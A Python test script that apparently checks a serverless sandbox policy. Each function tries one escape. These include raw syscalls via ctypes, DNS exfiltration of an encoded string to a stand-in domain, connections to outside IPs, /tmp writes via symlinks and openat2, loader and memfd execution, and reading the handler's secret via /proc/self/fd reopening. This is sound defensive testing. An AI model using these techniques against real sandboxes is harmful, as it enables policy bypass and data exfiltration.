"""`python attempts.py NAME`: one attempt that a policy should stop, as a dependency in Python would make it.

Prints GOT where it can tell itself that it had what it wanted; what was sent is looked for by who started this. `raw`
is libc's `syscall` by way of ctypes: what any pure Python package can do. In the working directory lie `app.py` (the
handler), `alias.py`, a link to it, and `link`, a link to /tmp.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import platform
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

ECHO, GOT, SECRET = "/bin/echo", "GOT", "HANDLER-SECRET"
LOADER = {"x86_64": "/lib64/ld-linux-x86-64.so.2", "aarch64": "/lib/ld-linux-aarch64.so.1"}[platform.machine()]
OTHER_IPV4, OTHER_IPV6, RESOLVER = "203.0.113.9", "2001:db8::66", "203.0.113.53"
OPENAT, CONNECT, EXECVE, OPENAT2 = {"x86_64": (257, 42, 59, 437), "aarch64": (56, 203, 221, 437)}[platform.machine()]
AT_FDCWD = -100
CREATE = os.O_CREAT | os.O_WRONLY


def libc() -> ctypes.CDLL:
    return ctypes.CDLL(None, use_errno=True)


def raw(number: int, *arguments: object) -> int:
    """A system call by libc's syscall()."""
    call = libc().syscall
    call.restype = ctypes.c_long
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = call(ctypes.c_long(number), *words)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def raw_open(path: bytes, flags: int) -> int:
    return raw(OPENAT, AT_FDCWD, path, flags, 0o600)


def openat2(path: bytes, flags: int) -> int:
    how = struct.pack("QQQ", flags, 0o600 if flags & os.O_CREAT else 0, 0)
    return raw(OPENAT2, AT_FDCWD, path, how, len(how))


def got(when: bool = True) -> None:
    if when:
        print(GOT, flush=True)


def write(descriptor: int) -> None:
    got(os.write(descriptor, b"x") == 1)


def read(descriptor: int) -> None:
    got(SECRET in os.read(descriptor, 4096).decode())


def connect4() -> None:
    with socket.create_connection((OTHER_IPV4, 443), 2):
        got()


def connect6_raw() -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        ip = socket.inet_pton(socket.AF_INET6, OTHER_IPV6)
        address = struct.pack("=HHI16sI", socket.AF_INET6, socket.htons(443), 0, ip, 0)
        raw(CONNECT, s.fileno(), address, len(address))
        got()


def udp_sendto() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"data", (OTHER_IPV4, 443))


def dns_lookup() -> None:
    socket.getaddrinfo("c2vjcmv0.denied.example", 443)


def dns_by_hand() -> None:
    question = b"".join(bytes([len(x)]) + x for x in (b"agfuza", b"denied", b"example")) + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((RESOLVER, 53))
        s.send(b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + question)


def tmp_open() -> None:
    with open("/tmp/open", "w") as f:
        write(f.fileno())


def tmp_raw() -> None:
    write(raw_open(b"/tmp/raw", CREATE))


def tmp_relative() -> None:
    os.chdir("/")
    with open("tmp/relative", "w") as f:
        write(f.fileno())


def tmp_symlink() -> None:
    with open("link/symlink", "w") as f:
        write(f.fileno())


def tmp_openat2() -> None:
    write(openat2(b"/proc/self/root/tmp/openat2", CREATE))


def run_vfork() -> None:
    sys.stdout.write(subprocess.run([ECHO, GOT], capture_output=True, text=True, check=True).stdout)


def spawn_loader() -> None:
    """The dynamic loader, which has to be allowed where programs are, starts another."""
    os.waitpid(os.posix_spawn(LOADER, [LOADER, ECHO, GOT], os.environ), 0)


def run_system() -> None:
    libc().system(f"{ECHO} {GOT}".encode())


def _in_a_child(run: Callable[[], object]) -> None:
    child = os.fork()
    if not child:
        with contextlib.suppress(BaseException):
            run()
        os._exit(1)
    os.waitpid(child, 0)


def fork_execve_raw() -> None:
    arguments = (ctypes.c_char_p * 3)(ECHO.encode(), GOT.encode(), None)
    _in_a_child(lambda: raw(EXECVE, ECHO.encode(), arguments, (ctypes.c_char_p * 1)(None)))


def memfd_exec() -> None:
    with open(ECHO, "rb") as program:
        descriptor = os.memfd_create("x")
        os.write(descriptor, program.read())
    _in_a_child(lambda: os.execve(descriptor, [ECHO, GOT], {}))


def read_open() -> None:
    with open("app.py") as f:
        got(SECRET in f.read())


def read_symlink() -> None:
    with open("alias.py") as f:
        got(SECRET in f.read())


def read_raw() -> None:
    read(raw_open(os.fsencode(os.getcwd()) + b"/app.py", os.O_RDONLY))


def read_openat2() -> None:
    read(openat2(b"/proc/self/cwd/app.py", os.O_RDONLY))


def read_reopened() -> None:
    """A descriptor that cannot be read, opened anew."""
    descriptor = os.open("alias.py", os.O_PATH)
    with open(f"/proc/self/fd/{descriptor}") as f:
        got(SECRET in f.read())


def ask_for_an_event() -> None:
    """What a runtime's client does once the handler is loaded."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    with socket.create_connection((host, int(port)), 2) as s:
        s.sendall(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\n\r\n")
        s.recv(4096)


def allowed() -> None:
    """What every policy allows: a file, a local connection, a listed program, a datagram to the name server."""

    def reach_resolver() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect((RESOLVER, 53))

    steps: dict[str, Callable[[], object]] = {
        "file": lambda: open("/etc/passwd").close(),
        "local": ask_for_an_event,
        "program": lambda: subprocess.run(["/bin/true"], check=True),
        "resolver": reach_resolver,
    }
    for name, step in steps.items():
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            step()
            print(name, flush=True)


if __name__ == "__main__":
    ask_for_an_event()
    try:
        globals()[sys.argv[1]]()
    except (OSError, subprocess.SubprocessError, RuntimeError, ImportError) as error:
        print(f"{type(error).__name__}: {error}", file=sys.stderr)
